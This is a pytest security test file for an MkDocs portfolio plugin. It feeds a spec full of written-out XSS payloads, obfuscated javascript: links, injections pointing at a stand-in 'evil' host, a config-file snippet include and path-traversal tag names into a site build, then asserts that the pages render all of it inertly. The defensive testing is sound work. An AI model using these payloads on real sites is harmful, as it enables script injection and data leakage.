"""Spec text is data: a valid spec full of markup payloads builds, and no payload comes alive.

The hostile spec (``projects/xss.yaml`` in a copy of the site) puts payloads into every text
field the schema has (a guard test below walks the schema to keep it so): one-line values
(title, team, tags, names, metric names and units, baseline names), free text (summary,
evidence, descriptions, iteration log, override reason) and links. Each payload names the
field it sits in (``alert('title')``), so a failure says where the text came from.

The copy of the site also enables ``pymdownx.snippets`` (rooted at the folder holding
``mkdocs.yml``) and ``pymdownx.magiclink``: sites may turn them on for their own pages, and
spec text must not be able to include files or make links through them (generated pages are
never run through MkDocs' Markdown).

Every page that shows the project (its one page, and the portfolio pages listing it) is parsed
as a browser reads it (``<title>`` content is text), never grepped, and must have: no ``on*``
attribute, no ``style`` attribute or element from spec text, no ``javascript:``/``data:`` link
or source, no script other than the site's own, no frame, form, plugin, ``<base>`` or refresh,
no element outside the allowlist inside the article, no request to another host (an image of
another host is shown as a link, unless ``allowed_image_hosts`` names its host), nothing of
``mkdocs.yml``; and the payloads must show as the text typed.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import markdown
import pytest
import yaml
from mkdocs.config import load_config

from mlfolio.spec.names import group_key
from mlfolio.pages.labels import Labels
from mlfolio.pages.reference import reference
from mlfolio.spec.check import Checker
from mlfolio.spec.schema import load_schema

FENCE = "```"
EVIL = "evil.example.net"  # a host whose images must never load
IMAGES = "images.example.com"  # a host the second build allows images from
PROJECT = "projects/xss/"
PORTFOLIO_PAGES = ("", "teams/", "stages/", "tags/")
HOSTILE_PAGES = (PROJECT, *PORTFOLIO_PAGES)
REFERENCE_PROJECT = "house-prices"
# Lines of mkdocs.yml that no page should quote.
CONFIG_MARKERS = ("fence_code_format", "prefers-color-scheme)\"\n", "NO_MKDOCS", "edit_uri: edit/main/", "specs_dir: projects")
BAD_SCHEME = re.compile(r"^(?:javascript|data|vbscript):", re.IGNORECASE)
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "background", "data", "srcdoc",
                  "ping", "cite", "longdesc", "manifest", "icon", "dynsrc", "lowsrc")
# Attributes that make the browser fetch something as the page loads (`href` only on <link>).
FETCH_ATTRIBUTES = ("src", "srcset", "poster", "background", "data", "ping", "lowsrc", "dynsrc", "longdesc")
FORBIDDEN_ELEMENTS = ("iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "button",
                      "textarea", "select", "style", "link", "meta", "math", "svg", "video", "audio", "source", "template",
                      "noscript", "x-custom", "script")
# What may appear inside a page's article: the elements the templates write and the
# formatting the Markdown allowlist keeps (an <input> only as a task list's disabled
# checkbox). The theme's edit button, an <a> holding an <svg> icon, is left out before checking.
ALLOWED_IN_ARTICLE = frozenset({
    "a", "abbr", "acronym", "b", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del", "details",
    "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "input", "kbd",
    "li", "ol", "p", "pre", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "th", "thead", "tr",
    "tt", "ul", "var",
})


def payloads(field: str) -> list[str]:
    """One-line payloads, each naming ``field``."""
    return [
        f"<script>alert('{field}')</script>",
        f"<img src=x onerror=alert('{field}')>",
        f"[x](javascript:alert('{field}'))",
        f"[x](&#106;avascript:alert('{field}'))",
        "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        f"{{: onclick=\"alert('{field}')\" }}",
        '--8<-- "mkdocs.yml"',
        "<!-- x -->",
        f"<svg onload=alert('{field}')>",
        '<div markdown="1">**md**</div>',
        "a | b",
        "# evil",
        f"</title><script>alert('{field}')</script>",
        f"\"><svg onload=alert('{field}')>",
        f"<iframe src=\"javascript:alert('{field}')\"></iframe>",
        f"[x](JaVaScRiPt:alert('{field}'))",
        f"[x](java\tscript:alert('{field}'))",
        f"<javascript:alert('{field}')>",
        f"<a href=\" javascript:alert('{field}')\">x</a>",
        f"<a href=\"https://example.com/\" ping=\"https://{EVIL}/ping\" style=\"position:fixed\">{field}</a>",
        f"<div style=\"background:url(https://{EVIL}/{field}.png)\">styled</div>",
        f"<style>body{{background:url(https://{EVIL}/{field}.css)}}</style>",
        f"<link rel=stylesheet href=\"https://{EVIL}/{field}.css\">",
        "<meta http-equiv=\"refresh\" content=\"0; url=https://example.com/\">",
        f"<base href=\"https://{EVIL}/\">",
        f"<form action=\"https://{EVIL}/\"><input autofocus onfocus=alert('{field}')><button>go</button></form>",
        f"<object data=\"https://{EVIL}/{field}.swf\"></object><embed src=\"https://{EVIL}/{field}.swf\">",
        f"<video poster=\"https://{EVIL}/{field}.jpg\"><source src=\"https://{EVIL}/{field}.mp4\"></video>",
        f"<img srcset=\"https://{EVIL}/{field}.png 1x\" src=\"https://{EVIL}/{field}-raw.png\">",
        f"<math><mi xlink:href=\"javascript:alert('{field}')\">m</mi></math>",
        f"<details open ontoggle=alert('{field}')><summary>s</summary></details>",
        f"<x-custom onclick=alert('{field}')>c</x-custom>",
        f"<table background=\"https://{EVIL}/{field}.png\"><tr><td>t</td></tr></table>",
    ]


def images(field: str) -> list[str]:
    """Images of another host and of an allowed one (lines of a paragraph, where Markdown is read)."""
    return [f"![pic-{field}](https://{EVIL}/{field}.png)", f"![ok-{field}](https://{IMAGES}/{field}.png)",
            f"[![linked-{field}](https://{EVIL}/{field}-linked.png)](https://example.com/{field})"]


def line(field: str) -> str:
    return " ".join(payloads(field))


def text(field: str) -> str:
    """Free text: every payload on its own line, a reference link to a script, a heading line,
    then a fence never closed."""
    return "\n".join([*payloads(field), "", *images(field), "", "- [x] done", "- [ ] to do", "", "[ref link][evil]", "",
                      f"[evil]: javascript:alert('{field}-ref')", "", "# evil", "", FENCE + "python",
                      f"<script>alert('{field}-fence')</script>"])


def short(field: str, limit: int) -> str:
    """As many payloads as fit in a field the schema limits to ``limit`` characters (titles,
    teams: a name repeated on many pages is kept short, so a spec cannot inflate the site)."""
    out = ""
    for payload in payloads(field):
        if len(out) + 1 + len(payload) <= limit:
            out = f"{out} {payload}" if out else payload
    return out


def answer(value: str, field: str) -> dict[str, str]:
    # A source is a valid URI (format: uri): what an attacker has left is quotes and parentheses.
    return {"answer": value, "evidence": text(field), "source": f"https://example.com/'onmouseover='alert({field})'"}


def hostile_spec() -> dict[str, Any]:
    return {
        "$schema": "javascript:alert('$schema')", "schema_version": 1, "id": "xss", "title": "# evil " + short("title", 193), "summary": text("summary"),
        "stage": "retired", "team": "../../" + short("team", 94),
        "owners": [{"name": line("owner.name"), "role": line("owner.role"), "contact": line("owner.contact")}],
        "sme": {"name": line("sme.name"), "role": line("sme.role"), "contact": line("sme.contact")},
        "tags": [*list({group_key(p): p for p in payloads("tag") if len(p) <= 64}.values())[:16], "../../../escape", "..", "a/b\\c",
                 "tag with spaces"],
        "created": "2026-01-01", "updated": "2026-02-01",
        "links": {
            # Valid URIs (format: uri): what is left to an attacker is quotes and entities.
            "repository": "https://example.com/'onmouseover='alert(links.repository)'",
            "docs": "https://example.com/%22%3E%3Cscript%3Ealert('links.docs')%3C/script%3E",
            "dashboard": "https://example.com/?a='&b=&quot;&#x3E;&lt;svg/onload=alert(links.dashboard)",
            "prototype": "https://example.com/?a=1&b=%3Cimg%20src=x%20onerror=alert('links.prototype')%3E",
        },
        "business": {
            "service": text("business.service"), "goal": text("business.goal"),
            "input": {"data": text("input.data"), "trustworthy": {"answer": "partly", "note": text("input.note")},
                      "consistent": {"answer": "yes", "note": text("input.note")}, "labelled": {"answer": "partly", "note": line("input.note")},
                      "continuous": {"answer": "unknown", "note": line("input.note")}},
            "output": {"usage": "customer_facing", "description": text("output.description")},
            "interviews": [{"who": line("interview.who"), "team": line("interview.team"), "date": "2026-01-02", "notes": text("interview.notes")}],
        },
        "problem": {
            "situation": {k: text(f"situation.{k}") for k in ("what_is_happening", "difficulties", "what_would_help", "further_options", "data")},
            "hypotheses": [text("hypothesis"), line("hypothesis")], "statement": text("statement"),
            "what_to_learn": text("what_to_learn"), "decomposition": [text("decomposition"), line("decomposition")],
            "candidate_solutions": [
                {"name": line("solution.name"), "approach": "ml", "description": text("solution.description"), "chosen": True},
                {"name": line("solution.name"), "approach": "rule_based", "description": line("solution.description"), "chosen": False},
            ],
            "incremental_plan": [{"step": line("plan.step"), "description": text("plan.description"), "when": line("plan.when")}],
        },
        "feasibility": {
            "for_ml": {k: answer("yes", f"evidence.{k}") for k in ("pattern", "objective_function", "complexity", "data_available", "repetitive")},
            "against_ml": {k: answer("no", f"evidence.{k}") for k in ("unethical", "simple_solution", "no_good_data", "fatal_errors", "must_explain", "not_cost_effective")},
            "risks": {"scale_unestimable": answer("partly", "evidence.scale"), "stakeholders_disagree": answer("no", "evidence.stakeholders")},
            "existing_models": text("existing_models"), "business_value": text("business_value"),
            "override": {"verdict": "recommended", "reason": text("override.reason"), "reviewer": line("override.reviewer"), "date": "2026-01-03"},
        },
        "goals": {"goal": text("goals.goal"), "objectives": [
            {"description": text("objective.description"), "metric": "evil_metric", "guardrail": text("objective.guardrail")},
            {"description": line("objective.description"), "metric": "biz"},
        ]},
        "labels": {"situation": "labelled", "plan": text("labels.plan")},
        "multi_objective": {"strategy": "combined_loss", "rationale": text("multi_objective.rationale"), "components": [
            {"name": line("component.name"), "metric": "evil_metric", "weight": 1},
            {"name": line("component.name"), "metric": "biz", "weight": 0.5},
        ]},
        "metrics": [
            {"id": "evil_metric", "name": line("metric.name"), "kind": "model", "direction": "maximize", "unit": line("metric.unit"),
             "current": 0.5, "target": 0.9, "description": text("metric.description"),
             "observations": [{"date": "2026-01-01", "value": 0.6, "source": short("observation.source", 200),
                               "link": "https://example.com/'onclick='alert(observation.link)'", "note": text("observation.note")}]},
            {"id": "biz", "name": line("metric.name"), "kind": "business", "direction": "minimize", "unit": "<b onmouseover=alert('metric.unit')>%",
             "current": 10, "target": 5, "description": line("metric.description")},
        ],
        "ab_test": {"metric": "biz", "guardrail_metrics": ["evil_metric"], "design": text("ab_test.design"),
                    "minimum_detectable_effect": line("ab_test.mde"), "duration": line("ab_test.duration"),
                    "result": {"start": "2026-01-01", "end": "2026-01-10", "control": 10, "treatment": 9, "decision": "pending",
                               "note": text("ab_test.result.note")}},
        "evaluation": {"model": short("evaluation.model", 200), "date": "2026-01-02", "notes": text("evaluation.notes"),
                       "results": [{"dataset": "evil_data", "segment": short("evaluation.segment", 200), "metric": "evil_metric", "value": 0.7}]},
        "constraints": {
            **{k: text(f"constraints.{k}") for k in ("schedule", "budget", "people_affected", "privacy", "technical", "existing_environment", "ethics")},
            "performance": {"baseline_to_beat": "evil_baseline", "threshold": text("performance.threshold"), "tradeoff": text("performance.tradeoff"),
                            "interpretability": "preferred", "false_negative_tolerance": "low", "confidence": text("performance.confidence")},
            "service": {"latency_ms": 50, "latency_percentile": "p99", "qps": 10, "accuracy": text("service.accuracy"), "hardware": line("service.hardware")},
        },
        "data": {
            "datasets": [{"id": "evil_data", "name": line("dataset.name"), "role": "training", "source": text("dataset.source"), "size": line("dataset.size"),
                          "input": text("dataset.input"), "output": text("dataset.output"), "refresh": line("dataset.refresh"), "notes": text("dataset.notes")}],
            "testing": text("data.testing"), "production_gap": text("data.production_gap"),
        },
        "baselines": [{"id": "evil_baseline", "name": line("baseline.name"), "kind": "rule_based", "description": text("baseline.description"),
                       "results": {"evil_metric": 0.6, "biz": 9}, "measured_on": line("baseline.measured_on"),
                       "reference": "javascript:alert('baseline.reference')"}],
        "prototype": {"tool": "other", "url": "https://example.com/'onfocus='alert(prototype.url)'",
                      "description": text("prototype.description"), "feedback": text("prototype.feedback")},
        "deployment": {"mode": "online", "schedule": line("deployment.schedule"), "infrastructure": "other",
                       "serving_stack": [line("deployment.stack"), text("deployment.stack")], "architecture": text("deployment.architecture"),
                       "cold_start": text("deployment.cold_start"), "rollout": text("deployment.rollout")},
        "monitoring": {
            "monitors": [{"metric": "evil_metric", "alert_when": "below", "threshold": 0.7, "window": line("monitor.window"), "action": text("monitor.action")}],
            "error_analysis": text("monitoring.error_analysis"), "sme_review": text("monitoring.sme_review"),
            "retraining_triggers": [{"when": line("trigger.when"), "action": "retrain", "notes": text("trigger.notes")}],
        },
        "iterations": [
            {"date": "2026-01-04", "kind": "finding", "summary": text("iteration.summary"), "details": text("iteration.details")},
            {"date": "2026-01-05", "kind": "incident", "summary": line("iteration.summary")},
        ],
        "retirement": {"date": "2026-02-01", "reason": text("retirement.reason"), "replaced_by": line("retirement.replaced_by")},
    }  # fmt: skip


SNIPPETS = """\
  - pymdownx.snippets:
      base_path: [{root}]
  - pymdownx.magiclink
"""


def hostile_site_inputs(root: Path) -> Path:
    (root / "projects" / "xss.yaml").write_text(yaml.safe_dump(hostile_spec(), allow_unicode=True, sort_keys=False, width=10**6),
                                                encoding="utf-8")
    config = root / "mkdocs.yml"
    source = config.read_text(encoding="utf-8")
    assert source.count("\nmarkdown_extensions:\n") == 1
    extra = SNIPPETS.format(root=json.dumps(str(root)))
    config.write_text(source.replace("\nmarkdown_extensions:\n", "\nmarkdown_extensions:\n" + extra), encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, copy_site, build_site):
    return build_site(hostile_site_inputs(copy_site(tmp_path_factory.mktemp("xss") / "repo")))


@pytest.fixture(scope="module")
def hostile_site(hostile) -> Path:
    assert hostile.error is None, f"{hostile.error!r}\n" + "\n".join(hostile.logged())
    return hostile.site


@pytest.fixture(scope="module")
def images_allowed(tmp_path_factory: pytest.TempPathFactory, copy_site, build_site, plugin_options) -> Path:
    """The same hostile site, with ``allowed_image_hosts: [images.example.com]``."""
    root = hostile_site_inputs(copy_site(tmp_path_factory.mktemp("xss-images") / "repo"))
    plugin_options(root, allowed_image_hosts=[IMAGES])
    result = build_site(root)
    assert result.error is None and result.logged() == [], f"{result.error!r}\n" + "\n".join(result.logged())
    return result.site


def test_hostile_spec_is_a_valid_spec(hostile) -> None:
    run = Checker(load_schema(hostile.root / "schemas" / "project.schema.json")).check_paths(
        [hostile.root / "projects" / "xss.yaml"], root=hostile.root)
    assert [d.format() for d in run.diagnostics] == []


def test_hostile_spec_builds_strictly_without_warnings(hostile) -> None:
    assert hostile.error is None, repr(hostile.error)
    assert hostile.logged() == []


# Text fields the hostile spec cannot fill with payloads: ids and references (a pattern or a
# list of ids decides their value) and dates.
NOT_FREE = {"id", "metrics[].id", "baselines[].id", "data.datasets[].id", "goals.objectives[].metric",
            "multi_objective.components[].metric", "ab_test.metric", "ab_test.guardrail_metrics",
            "constraints.performance.baseline_to_beat", "monitoring.monitors[].metric",
            "evaluation.results[].dataset", "evaluation.results[].metric"}


def values_at(data: Any, path: str) -> list[Any]:
    """Every value at a reference path such as ``metrics[].name`` (lists expanded)."""
    found = [data]
    for part in path.split("."):
        name, is_list = (part[:-2], True) if part.endswith("[]") else (part, False)
        found = [item.get(name) for item in found if isinstance(item, dict) and name in item]
        if is_list:
            found = [v for item in found for v in (item or [])]
    return found


def test_hostile_spec_fills_every_text_field_of_the_schema() -> None:
    """Guard: a text field added to the schema gets a payload here too."""
    schema = load_schema()
    spec = hostile_spec()
    unfilled = []
    for section in reference(schema, Labels("en")):
        for field in section.fields:
            if field.path in NOT_FREE or field.choices or "date" in field.type:
                continue
            if field.type.startswith("string") or field.type == "list of texts":
                values = values_at(spec, field.path)
                hostile = [any("alert" in t for t in v) if isinstance(v, list) else "alert" in v for v in values]
                if not hostile or not all(hostile):
                    unfilled.append(field.path)
    assert unfilled == []


def test_snippets_are_armed(hostile) -> None:
    """Guard for the test itself: with this configuration, Markdown that asks for a snippet
    does get the file, so the payload is a real attempt."""
    config = load_config(str(hostile.root / "mkdocs.yml"))
    md = markdown.Markdown(extensions=config.markdown_extensions, extension_configs=config.mdx_configs)
    assert "specs_dir: projects" in md.convert('--8<-- "mkdocs.yml"\n')


# --------------------------------------------------------------------------------------------
# No live markup
# --------------------------------------------------------------------------------------------


def reference_url(url: str) -> str:
    """The same page for a normal project (or the same portfolio page) in the normal site."""
    return url.replace(PROJECT, f"projects/{REFERENCE_PROJECT}/")


def scripts(root) -> set[tuple[str | None, str]]:
    return {(s.attrs.get("src"), "" if s.attrs.get("src") else s.text().strip()) for s in root.find_all("script")}


def without_edit_button(body):
    """The article's elements, less the theme's edit button (an <a rel=edit> with an <svg> icon)."""
    skip = {id(n) for a in body.find_all("a", rel="edit") for n in a.iter()}
    return [n for n in body.iter() if id(n) not in skip]


def test_no_event_handler_attribute(hostile_site: Path, html) -> None:
    found = []
    for url in HOSTILE_PAGES:
        root = html(hostile_site / url / "index.html")
        found += [f"{url}: <{n.tag} {k}={v!r}>" for n in root.iter() for k, v in n.attrs.items() if k.lower().startswith("on")]
    assert found == []


def test_no_script_url(hostile_site: Path, html) -> None:
    found = []
    for url in HOSTILE_PAGES:
        for n in html(hostile_site / url / "index.html").iter():
            for name in URL_ATTRIBUTES:
                value = n.attrs.get(name)
                if value and BAD_SCHEME.match(re.sub(r"[\x00-\x20]", "", value)):
                    found.append(f"{url}: <{n.tag} {name}={value!r}>")
    assert found == []


def test_only_the_sites_own_scripts(hostile_site: Path, site: Path, html) -> None:
    found = []
    for url in HOSTILE_PAGES:
        own = scripts(html(site / reference_url(url) / "index.html"))
        found += [f"{url}: {script}" for script in sorted(scripts(html(hostile_site / url / "index.html")) - own, key=str)]
    assert found == []


def test_no_frames_forms_plugins_or_refresh(hostile_site: Path, site: Path, html, content) -> None:
    found = []
    for url in HOSTILE_PAGES:
        root = html(hostile_site / url / "index.html")
        body = {id(n) for n in content(root).iter()}
        normal = html(site / reference_url(url) / "index.html")
        for tag in ("iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "button", "textarea", "select"):
            if len(root.find_all(tag)) != len(normal.find_all(tag)):  # the theme has its own search and palette forms
                found.append(f"{url}: {len(root.find_all(tag))} <{tag}>, the theme has {len(normal.find_all(tag))}")
        charts = chart_nodes(content(root))
        found += [f"{url}: <{n.tag}> in the article" for n in without_edit_button(content(root))
                  if n.tag in FORBIDDEN_ELEMENTS and id(n) not in charts]
        found += [f"{url}: <meta refresh>" for n in root.find_all("meta") if (n.attrs.get("http-equiv") or "").lower() == "refresh"]
        own = {(n.attrs.get("rel"), n.attrs.get("href")) for n in normal.find_all("link")}
        found += [f"{url}: <link {n.attrs}>" for n in root.find_all("link")
                  if (n.attrs.get("rel"), reference_url(n.attrs.get("href") or "")) not in own]
        found += [f"{url}: <style> outside the theme's" for n in root.find_all("style") if id(n) in body]
    assert found == []


# The outcome charts the templates draw (inline SVG made at build time): these elements and
# attributes only, no event handler, no link, no style; spec text reaches them only as
# autoescaped attribute values and <title> text.
CHART_ELEMENTS = {"svg": {"class", "xmlns", "viewbox", "width", "height", "role", "aria-label", "data-pagefind-ignore"},
                  "line": {"class", "x1", "y1", "x2", "y2", "stroke", "stroke-width", "stroke-dasharray"},
                  "polyline": {"class", "points", "fill", "stroke", "stroke-width"},
                  "circle": {"class", "cx", "cy", "r", "fill"}, "title": set()}


def chart_nodes(root: Any) -> set[int]:
    """ids of the nodes of the templates' own charts (``<svg class="mlfolio-trend">``), each
    checked against :data:`CHART_ELEMENTS`; a node that does not fit is not counted as one."""
    out: set[int] = set()
    for svg in root.find_all("svg", "mlfolio-trend"):
        nodes = list(svg.iter())
        if all(n.tag in CHART_ELEMENTS and {a.lower() for a in n.attrs} <= CHART_ELEMENTS[n.tag] for n in nodes):
            out |= {id(n) for n in nodes}
    return out


def test_the_charts_are_the_templates_own(hostile_site: Path, html, content) -> None:
    """Guard for the exception above: the hostile project has a chart, and every chart fits it."""
    body = content(html(hostile_site / PROJECT / "index.html"))
    charts = body.find_all("svg", "mlfolio-trend")
    assert charts and all(id(c) in chart_nodes(body) for c in charts)


def test_only_allowed_elements_inside_the_article(hostile_site: Path, html, content) -> None:
    found = set()
    for url in HOSTILE_PAGES:
        article = content(html(hostile_site / url / "index.html"))
        charts = chart_nodes(article)
        for n in without_edit_button(article)[1:]:
            if id(n) in charts:
                continue
            if n.tag not in ALLOWED_IN_ARTICLE:
                found.add(f"{url}: <{n.tag}>")
            elif n.tag == "input" and (n.attrs.get("type") != "checkbox" or "disabled" not in n.attrs
                                       or set(n.attrs) - {"type", "disabled", "checked"}):
                found.add(f"{url}: <input {n.attrs}> is not a disabled checkbox")
    assert sorted(found) == []


def test_task_lists_are_disabled_checkboxes(hostile_site: Path, html, content) -> None:
    """Guard for the test above: the one <input> spec text may make, from `- [x]`."""
    boxes = content(html(hostile_site / PROJECT / "index.html")).find_all("input")
    assert boxes, "the hostile text has a task list and a raw <input>"
    assert all(b.attrs.get("type") == "checkbox" and "disabled" in b.attrs for b in boxes)


def test_no_style_from_spec_text(hostile_site: Path, html, content) -> None:
    """Inside the article only the templates' own bar widths (``width: N%``) are styled."""
    found = []
    for url in HOSTILE_PAGES:
        for n in without_edit_button(content(html(hostile_site / url / "index.html"))):
            style = n.attrs.get("style")
            if style is not None and not ("mlfolio-bar-fill" in n.classes() and re.fullmatch(r"width: \d+%", style)):
                found.append(f"{url}: <{n.tag} style={style!r}>")
    assert found == []


SITE_HOST = "127.0.0.1"  # site_url's host in mkdocs.yml (the theme's canonical link)


def outside_requests(root, allowed: frozenset[str] = frozenset()) -> list[str]:
    """Everything on a page that makes the browser contact another host as it loads."""
    found = []
    for n in root.iter():
        for name in FETCH_ATTRIBUTES + (("href",) if n.tag == "link" else ()):
            value = n.attrs.get(name)
            if not value:
                continue
            for candidate in (value.split(",") if name == "srcset" else [value]):
                url = candidate.strip().split(" ")[0]
                host = urlsplit(url).hostname if "//" in url else None
                if host not in (None, SITE_HOST) and not (n.tag == "img" and name == "src" and host in allowed):
                    found.append(f"<{n.tag} {name}={value!r}>")
    return found


def test_no_request_to_another_host(hostile_site: Path, html) -> None:
    found = [f"{url}: {r}" for url in HOSTILE_PAGES for r in outside_requests(html(hostile_site / url / "index.html"))]
    assert found == []


def test_outside_images_are_shown_as_links(hostile_site: Path, html, content) -> None:
    body = content(html(hostile_site / PROJECT / "index.html"))
    assert [n.attrs for n in body.find_all("img") if "//" in (n.attrs.get("src") or "")] == []
    links = {(a.attrs.get("href"), a.words()) for a in body.find_all("a")}
    for host, name, label in ((EVIL, "summary", "pic-summary (image)"), (IMAGES, "summary", "ok-summary (image)"),
                              (EVIL, "summary-raw", "(image)")):
        assert (f"https://{host}/{name}.png", label) in links, (host, sorted(link for link in links if host in (link[0] or "")))
    # An image inside a link keeps the link, and shows its text instead of loading.
    assert ("https://example.com/summary", "linked-summary (image)") in links


def test_allowed_image_hosts_show_their_images_and_no_other(images_allowed: Path, html, content) -> None:
    root = html(images_allowed / PROJECT / "index.html")
    images = {n.attrs.get("src") for n in content(root).find_all("img")}
    assert f"https://{IMAGES}/summary.png" in images
    assert {urlsplit(src or "").hostname for src in images} <= {IMAGES, None}
    assert outside_requests(root, frozenset({IMAGES})) == []
    links = {(a.attrs.get("href"), a.words()) for a in content(root).find_all("a")}
    assert (f"https://{EVIL}/summary.png", "pic-summary (image)") in links
    for url in PORTFOLIO_PAGES:
        assert outside_requests(html(images_allowed / url / "index.html")) == []


def test_nothing_of_mkdocs_yml_is_included(hostile_site: Path) -> None:
    found = []
    for url in HOSTILE_PAGES:
        page = (hostile_site / url / "index.html").read_text(encoding="utf-8")
        found += [f"{url}: {m!r}" for m in CONFIG_MARKERS if m in page]
    assert found == []


# The search index holds the text of the pages, which its script only ever shows as text
# (tests/site/test_search_site.py checks the script for HTML sinks).


# --------------------------------------------------------------------------------------------
# The text shows as typed
# --------------------------------------------------------------------------------------------


def test_title_shows_exactly_as_typed(hostile_site: Path, html, content) -> None:
    title = hostile_spec()["title"]
    h1 = content(html(hostile_site / PROJECT / "index.html")).find_all("h1")
    assert len(h1) == 1
    assert h1[0].words().removesuffix("¶").strip() == " ".join(title.split())


def test_browser_tab_title_shows_the_title_as_text(hostile_site: Path, html) -> None:
    """<title> is text to a browser; what it holds must be the project title, whole."""
    title = " ".join(hostile_spec()["title"].split())
    head = html(hostile_site / PROJECT / "index.html").find("title")
    assert head is not None
    assert head.words().startswith(title), f"<title> ends early, after {head.words()[-40:]!r}"


def test_free_text_shows_the_payloads_as_text(hostile_site: Path, html, content) -> None:
    body = content(html(hostile_site / PROJECT / "index.html"))
    lead = body.find("div", "mlfolio-lead")
    assert lead is not None
    shown = lead.text()
    # As GitHub shows them: tags that run or hold raw text show as text (GFM's tag filter);
    # other markup outside the allowlist is dropped (tested above), its text kept.
    for expected in (
        "<script>alert('summary')</script>",
        "</title><script>alert('summary')</script>",
        f"<style>body{{background:url(https://{EVIL}/summary.css)}}</style>",
        "<iframe src=\"javascript:alert('summary')\"></iframe>",
        "{: onclick=\"alert('summary')\" }",
        '--8<-- "mkdocs.yml"',
        "**md**",
        "a | b",
        "styled",
    ):
        assert expected in shown, expected
    # The fence the summary never closed ends with the summary: the page goes on after it.
    assert "<script>alert('summary-fence')</script>" in shown
    code_blocks = {id(n) for pre in body.find_all("pre") for n in pre.iter()}
    headings = [h for h in body.find_all("h2")]
    assert [h.attrs.get("id") for h in headings][:2] == ["at-a-glance", "problem"]
    assert not any(id(h) in code_blocks for h in headings)
    assert body.find("a", "mlfolio-tag") is not None and id(body.find("a", "mlfolio-tag")) not in code_blocks


def test_one_line_values_show_as_typed(hostile_site: Path, html, content) -> None:
    spec = hostile_spec()
    overview = content(html(hostile_site / PROJECT / "index.html")).words()
    for value in (spec["team"], spec["owners"][0]["name"], spec["sme"]["name"], spec["metrics"][0]["name"],
                  spec["baselines"][0]["name"], spec["feasibility"]["override"]["reviewer"]):
        assert " ".join(value.split()) in overview, value[:20]
    home = content(html(hostile_site / "index.html")).words()
    assert " ".join(spec["team"].split()) in home
    assert " ".join(spec["title"].split()) in home


def test_unsafe_links_keep_only_their_label(hostile_site: Path, html, content) -> None:
    """Links the spec text writes survive only with http(s) targets (tags link to the tags page)."""
    body = content(html(hostile_site / PROJECT / "index.html"))
    hrefs = [a.attrs.get("href") or "" for a in body.find_all("a")]
    schemes = {urlsplit(h).scheme.lower() for h in hrefs}
    assert schemes <= {"", "http", "https", "mailto"}, schemes
    # Every link with "alert" in it is one of the spec's https links, or a slug of ours (team, tags).
    written = [h for h in hrefs if "alert" in h and not h.startswith("https://example.com/")]
    assert [h for h in written if not re.fullmatch(r"\.\./\.\./(?:teams|tags)/#[\w-]+", h)] == []


def test_tag_names_show_as_typed(hostile_site: Path, html, content) -> None:
    tags = hostile_spec()["tags"]
    listed = [h.words().removesuffix("¶").strip() for h in content(html(hostile_site / "tags" / "index.html")).find_all("h2")]
    on_page = [a.words() for a in content(html(hostile_site / PROJECT / "index.html")).find_all("a", "mlfolio-tag")]
    expected = [" ".join(t.split()) for t in tags]
    assert on_page == expected
    # Tags that differ only in case are one group, headed by the first spelling.
    groups = {group_key(t): f"{' '.join(t.split())} (1)" for t in reversed(tags)}
    assert [g for g in groups.values() if g not in listed] == []


# --------------------------------------------------------------------------------------------
# Files stay where they belong
# --------------------------------------------------------------------------------------------


def test_every_file_stays_inside_the_site(hostile_site: Path) -> None:
    root = hostile_site.resolve()
    outside = []
    for path in hostile_site.rglob("*"):
        relative = path.relative_to(hostile_site)
        if ".." in relative.parts or not path.resolve().is_relative_to(root):
            outside.append(relative.as_posix())
    assert outside == []
    assert not (hostile_site.parent / "escape").exists()


def test_hostile_tags_and_team_add_no_files(hostile_site: Path, site: Path) -> None:
    """Tags and teams are sections of the portfolio pages, never files named after them."""
    normal = {p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file()}
    with_hostile = {p.relative_to(hostile_site).as_posix() for p in hostile_site.rglob("*") if p.is_file()}
    def pages(names: set[str]) -> set[str]:  # the search index's fragments are named by their content
        return {n for n in names if not n.startswith("pagefind/")}
    assert sorted(pages(with_hostile - normal)) == [f"{PROJECT}index.html"]
    assert sorted(pages(normal - with_hostile)) == []


def test_team_anchor_is_a_slug(hostile_site: Path, html, content) -> None:
    body = content(html(hostile_site / "teams" / "index.html"))
    team = " ".join(hostile_spec()["team"].split())
    headings = [h for h in body.find_all("h2") if team in h.words()]
    assert len(headings) == 1
    assert re.fullmatch(r"[\w-]+", headings[0].attrs.get("id") or ""), headings[0].attrs.get("id")
